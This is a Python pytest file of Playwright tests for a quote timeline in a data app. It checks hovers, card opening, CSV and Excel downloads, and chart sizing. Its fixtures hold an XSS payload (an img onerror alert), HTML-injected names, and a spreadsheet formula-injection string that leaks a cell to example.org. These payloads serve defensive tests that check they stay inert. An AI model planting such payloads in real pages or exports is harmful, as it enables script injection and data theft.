"""The quote timeline in Chromium: hovering a marker shows its excerpt, clicking it opens its card, and time gets
most of the chart's width."""
from __future__ import annotations

import copy
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from browser_session import Visit, dataset_server, marker_centre
from sample_data import MINI

from alliances.dataset import load
from alliances.quotes import lane_keys, lanes, quotes_table
from alliances.text import shorten

BUNDLED = Path(__file__).resolve().parents[2] / "data" / "syria"
# the chart's size as drawn: the plot area (time) against the whole chart, and its height
CHART_SIZE = """() => { const l = document.querySelector('.js-plotly-plot')._fullLayout;
    return {share: l.xaxis._length / l.width, width: l.width, height: l.height}; }"""

HOSTILE = '<img src=x onerror="alert(1)"> Peskov said so'
HOSTILE_NAME = "<i>Hostile</i> & <a href='https://example.org'>co</a>"
FORMULA = '=HYPERLINK("https://example.org/?leak="&A1,"Click")'


@pytest.fixture(scope="module")
def quotes_server(tmp_path_factory):
    tables = copy.deepcopy(MINI)
    tables["actors"].append({"id": "hostile", "name": HOSTILE_NAME, "kind": "person", "bloc": "<b>Bloc</b>"})
    tables["quotes"].append({"id": "hostile-2018-02-01", "date": "2018-02-01", "speaker": "hostile", "on_behalf": "",
                             "text": "Words.", "verbatim": "false", "issue": "", "source_id": "src-b", "context": ""})
    tables["quotes"].append({"id": "peskov-2018-02-05", "date": "2018-02-05", "speaker": "peskov", "on_behalf": "russia",
                             "text": HOSTILE, "verbatim": "true", "issue": "", "source_id": "src-b", "context": ""})
    tables["quotes"].append({"id": "formula-2017-06-01", "date": "2017-06-01", "speaker": "peskov", "on_behalf": "russia",
                             "text": FORMULA, "verbatim": "true", "issue": "", "source_id": "src-b", "context": ""})
    with dataset_server(tmp_path_factory, "quotes", tables) as server:
        yield server


@pytest.fixture
def quotes_visit(browser, quotes_server):
    with Visit(browser, quotes_server.base) as v:
        yield v


def test_clicking_a_marker_opens_its_card(quotes_visit):
    page = quotes_visit.open("/Quotes?date=2018-01-30&period=around")
    assert page.locator('[class*="st-key-selected_"]').count() == 0
    x, y = marker_centre(page, "peskov-2018-01-29")
    page.mouse.move(x, y)
    hover = page.locator(".hoverlayer .hovertext")
    hover.wait_for(timeout=5000)
    assert "No immediate breakthrough is likely." in hover.text_content()
    assert "Agency A" in hover.text_content()
    page.mouse.click(x, y)
    card = page.locator(".st-key-selected_peskov-2018-01-29")
    card.wait_for(timeout=15000)
    quotes_visit.settle()
    text = card.inner_text()
    assert "No immediate breakthrough is likely." in text and "Dmitry Peskov" in text and "Selected on the timeline" in text
    assert "Dmitry Peskov, Kremlin spokesman, 29 Jan 2018, to reporters — Agency A" in text
    assert "quote=peskov-2018-01-29" in page.url
    # closed, the card goes and the chart forgets the selection: the same marker opens the card again
    card.get_by_role("button", name="Close").click()
    quotes_visit.settle()
    assert card.count() == 0 and "quote=" not in page.url
    x, y = marker_centre(page, "peskov-2018-01-29")
    page.mouse.move(x, y)
    page.mouse.click(x, y)
    card.wait_for(timeout=15000)
    assert quotes_visit.errors == [] and quotes_visit.outside == []


def test_hostile_text_stays_text(quotes_visit):
    page = quotes_visit.open("/Quotes?date=2018-01-30&period=around&colour=bloc")
    x, y = marker_centre(page, "peskov-2018-02-05")
    page.mouse.move(x, y)
    hover = page.locator(".hoverlayer .hovertext")
    hover.wait_for(timeout=5000)
    assert '<img src=x onerror="alert(1)">' in hover.text_content()
    ticks = lambda: " ".join(page.locator(".js-plotly-plot .yaxislayer-above text").all_text_contents())  # noqa: E731
    assert "<b>Bloc</b>" in ticks()  # one lane per bloc
    assert "<b>Bloc</b>" in " ".join(page.locator(".js-plotly-plot .legend text").all_text_contents())
    page = quotes_visit.open("/Quotes?date=2018-01-30&period=around&colour=bloc&lanes=all")
    assert shorten(HOSTILE_NAME, 22) in ticks()  # cut, as written; the hover names the speaker in full
    assert "<b>Bloc</b>" in " ".join(page.locator(".js-plotly-plot .annotation text").all_text_contents())  # heading
    x, y = marker_centre(page, "hostile-2018-02-01")
    page.mouse.move(x, y)
    hover.wait_for(timeout=5000)
    assert HOSTILE_NAME in hover.text_content() and "bloc: <b>Bloc</b>" in hover.text_content()
    assert page.locator(".js-plotly-plot a").count() == 0
    page.get_by_role("tab", name="Cards").click()
    card = page.locator(".st-key-card_peskov-2018-02-05")
    card.wait_for(timeout=15000)
    assert '<img src=x onerror="alert(1)">' in card.inner_text()
    page.wait_for_timeout(500)
    assert quotes_visit.dialogs == [] and quotes_visit.errors == []


def test_downloads_name_the_view_and_day_and_keep_formulas_inert(quotes_visit, tmp_path):
    page = quotes_visit.open("/Quotes?date=2018-01-30&period=all&show=Cards")
    files = {}
    for label in ("Download CSV", "Download Excel"):
        with page.expect_download(timeout=60000) as info:
            page.get_by_role("button", name=label).click()
        files[label] = tmp_path / info.value.suggested_filename
        info.value.save_as(files[label])
    assert [f.name for f in files.values()] == ["quotes-2018-01-30.csv", "quotes-2018-01-30.xlsx"]
    csv_rows = pd.read_csv(files["Download CSV"], encoding="utf-8-sig").set_index("id")
    assert csv_rows.loc["formula-2017-06-01", "text"] == "'" + FORMULA
    sheet = openpyxl.load_workbook(files["Download Excel"]).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix
    assert len(csv_rows) == sheet.max_row - 1 == 5


@pytest.mark.parametrize("width", [1440, 1280])
def test_time_gets_most_of_the_width_and_lanes_stay_compact(browser, server, width):
    """On the bundled record (15 years, 80 speakers): the plot area is at least 70% of the chart, whatever the lanes,
    and the default view and the most quoted speakers fit on a screen."""
    with Visit(browser, server.base) as visit:
        visit.page.set_viewport_size({"width": width, "height": 1000})
        for lanes_by in ("blocs", "speakers", "all"):
            page = visit.open(f"/Quotes?lanes={lanes_by}&period=all")
            page.wait_for_selector(".js-plotly-plot .scatterlayer .point")
            size = page.evaluate(CHART_SIZE)
            assert size["share"] >= 0.7, (lanes_by, size)
            if lanes_by != "all":
                assert size["height"] < 900, (lanes_by, size)
        assert visit.errors == []


def test_a_marker_under_the_repeated_time_axis_still_opens_its_card(browser, server):
    """Every speaker: a tall chart with the years above it too (a second axis over the plot); the first lane's
    marker still shows its hover and opens its card."""
    table = quotes_table(load(BUNDLED))
    first_lane = lanes(table, "all")["lane"].iloc[0]
    quote_id = table[lane_keys(table, "all") == first_lane]["id"].iloc[0]
    with Visit(browser, server.base) as visit:
        visit.page.set_viewport_size({"width": 1440, "height": 1000})
        page = visit.open("/Quotes?lanes=all&period=all")
        years = page.locator(".js-plotly-plot .x2tick text").all_text_contents()  # above: every year, in order
        assert len(years) > 10 and years == [str(y) for y in range(int(years[0]), int(years[0]) + len(years))]
        assert set(page.locator(".js-plotly-plot .xtick text").all_text_contents()) <= set(years)  # as below
        x, y = marker_centre(page, quote_id)
        page.mouse.move(x, y)
        page.locator(".hoverlayer .hovertext").wait_for(timeout=5000)
        page.mouse.click(x, y)
        page.locator(f".st-key-selected_{quote_id}").wait_for(timeout=15000)
        assert f"quote={quote_id}" in page.url and "lanes=all" in page.url
        assert visit.errors == []
